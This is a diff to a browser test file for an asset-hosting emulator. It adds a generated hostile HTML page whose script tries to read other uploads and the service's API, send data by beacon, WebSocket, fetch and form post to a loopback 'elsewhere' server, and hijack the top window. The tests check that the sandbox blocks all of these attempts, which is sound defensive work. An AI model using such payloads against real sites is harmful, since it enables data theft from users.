@@ -2,6 +2,7 @@ import { once } from 'node:events';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { expect, onTestFinished } from 'vitest';
+import type { Emulator } from '../../src/emulator/start-emulator.ts';
 import { TOKEN } from '../e2e/run-action.ts';
 import { CHROMIUM, deliverToPage, measureContrast, openPage, uploadFile } from './browser.ts';
 import { testWith } from './programs.ts';
@@ -98,14 +99,19 @@ test('a file opens in its own tab, without the origin of the page', async () => 
   await page.goto(`${emulator.origin}/`);
   await page.locator('#assets summary').click();
   const [tab] = await Promise.all([page.waitForEvent('popup'), page.getByText('in a new tab').click()]);
-  await tab.locator('body[data-phase=ready]').waitFor({ state: 'attached' });
-  expect(await tab.evaluate('[self.origin, opener]')).toEqual(['null', null]);
+  const game = tab.frameLocator('iframe').locator('body[data-phase=ready]');
+  await game.waitFor({ state: 'attached' });
+  expect(await game.evaluate('[self.origin, opener]')).toEqual(['null', null]);
+  expect(await tab.evaluate('opener')).toBeNull();
   // The tab hands the sound over to a player, which requests it again.
   expect(complaints.filter(({ text }) => text !== 'net::ERR_ABORTED')).toEqual([]);
 });
 
 /** Tries everything that a delivered page must not do, and writes down its successes. */
-const attack = (elsewhere: string) => `<!doctype html><title>Hostile</title><script>
+const attack = (
+  elsewhere: string,
+  others: readonly string[],
+) => `<!doctype html><title>Hostile</title><script>
 const could = [];
 const tried = async (what, attempt) => {
   try { if ((await attempt()) !== false) could.push(what); } catch {}
@@ -119,9 +125,17 @@ const tried = async (what, attempt) => {
   await tried('open a window', () => window.open('/') !== null);
   await tried('ask a person', () => confirm('Your password?'));
   await tried('read the page', async () => (await fetch('/')).text());
+  await tried('reach the opener', () => opener.closed);
   await tried('read a file', async () => (await fetch('/files/' + location.pathname.split('/')[2])).text());
+  for (const path of ${JSON.stringify(others)})
+    await tried('read ' + path, () => fetch(path, { mode: 'no-cors' }));
   await tried('ask the service', () => fetch('/v1/games', { mode: 'no-cors' }));
+  await tried('ask for assets', () => fetch('/v1/assets?organizationId=org-1', { mode: 'no-cors' }));
   await tried('speak to elsewhere', () => fetch('${elsewhere}', { mode: 'no-cors' }));
+  await tried('open a socket', () => new Promise((resolve, reject) => {
+    Object.assign(new WebSocket('${elsewhere}/socket'.replace('http', 'ws')), { onopen: resolve, onerror: reject });
+  }));
+  navigator.sendBeacon('${elsewhere}/beacon', 'data');
   for (const src of ['${elsewhere}/image', '/v1/games?image']) {
     await tried('load ' + src, () => new Promise((resolve, reject) => {
       Object.assign(new Image(), { src, onload: resolve, onerror: reject });
@@ -131,23 +145,44 @@ const tried = async (what, attempt) => {
   const form = Object.assign(document.createElement('form'), { action: '/v1/export', method: 'post' });
   document.body.append(form);
   form.submit();
+  Object.assign(document.createElement('form'), { action: '${elsewhere}/form', method: 'post' }).submit();
   try { top.location = '${elsewhere}/top'; } catch {}
   document.body.append(JSON.stringify({ could }));
   document.documentElement.dataset.done = 'yes';
 })();
 </script><body>`;
 
-test('a hostile page can neither change nor read nor send anything', async () => {
+/** A server on loopback with the paths of all requests that it has received. */
+async function startElsewhere() {
   const received: string[] = [];
-  const elsewhere = createServer(({ url = '' }, response) => {
+  const server = createServer(({ url = '' }, response) => {
     received.push(url);
     response.end();
   }).listen(0, '127.0.0.1');
-  onTestFinished(() => void elsewhere.close());
-  await once(elsewhere, 'listening');
-  const { port } = elsewhere.address() as AddressInfo;
+  server.on('upgrade', ({ url = '' }, socket) => {
+    received.push(url);
+    socket.destroy();
+  });
+  onTestFinished(() => void server.close());
+  await once(server, 'listening');
+  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, received };
+}
+
+/** An emulator with a page that attacks, and the paths of other uploads. */
+async function deliverAttack(elsewhere: string): Promise<Emulator> {
   const emulator = await deliverToPage();
-  await uploadFile(emulator, 'hostile.html', 'text/html', attack(`http://127.0.0.1:${port}`));
+  const others = emulator
+    .storedAssets()
+    .slice(0, 2)
+    .flatMap(({ assetId, fileName }) => [`/files/${assetId}`, `/play/${assetId}/${fileName}`]);
+  expect(others).toHaveLength(4);
+  await uploadFile(emulator, 'hostile.html', 'text/html', attack(elsewhere, others));
+  return emulator;
+}
+
+test('a hostile page can neither change nor read nor send anything', async () => {
+  const elsewhere = await startElsewhere();
+  const emulator = await deliverAttack(elsewhere.origin);
   const leaving = `<script>location = '/v1/games?left'</script>`;
   await uploadFile(emulator, 'leaving.html', 'text/html', leaving);
   const before = emulator.journal.entries.length;
@@ -170,11 +205,45 @@ test('a hostile page can neither change nor read nor send anything', async () =>
   expect(await page.title()).toBe('Playable emulator');
   expect(dialogs).toEqual([]);
   expect(page.context().pages()).toHaveLength(1);
-  expect(received).toEqual([]);
+  expect(elsewhere.received).toEqual([]);
   expect(emulator.journal.entries).toHaveLength(before);
   // The browser reports each attempt of the hostile page.
   expect(complaints.length).toBeGreaterThan(5);
 });
+
+test.each(['iframe + a', 'iframe'])(
+  'a hostile page in a tab of its own can neither read nor send anything: the address of %s',
+  async (selector) => {
+    const elsewhere = await startElsewhere();
+    const emulator = await deliverAttack(elsewhere.origin);
+    const leaving = `<script>location = '${elsewhere.origin}/left?data'</script>`;
+    await uploadFile(emulator, 'leaving.html', 'text/html', leaving);
+    const before = emulator.journal.entries.length;
+    const { page } = await openPage(`${emulator.origin}/`);
+    const open = async (fileName: string) => {
+      const item = page.locator('#assets li', { hasText: fileName });
+      const address = await item
+        .locator(selector)
+        .evaluate<string, { href?: string; src?: string }>(({ href, src }) => href ?? src ?? '');
+      return openPage(address);
+    };
+    const leaver = await open('leaving.html');
+    await expect
+      .poll(() => leaver.complaints.map(({ text }) => text))
+      .toContainEqual(
+        expect.stringMatching(/violates the following Content Security Policy directive: "frame-src/),
+      );
+    const { page: tab, dialogs } = await open('hostile.html');
+    const hostile = tab.frameLocator('iframe');
+    await hostile.locator('html[data-done]').waitFor();
+    expect(await hostile.locator('body').innerText()).toBe('{"could":[]}');
+    expect(await tab.title()).toBe('hostile.html');
+    expect(dialogs).toEqual([]);
+    expect(tab.context().pages()).toHaveLength(1);
+    expect(elsewhere.received).toEqual([]);
+    expect(emulator.journal.entries).toHaveLength(before);
+  },
+);
 
 test('hostile names are shown as text', async () => {
   const emulator = await deliverToPage();
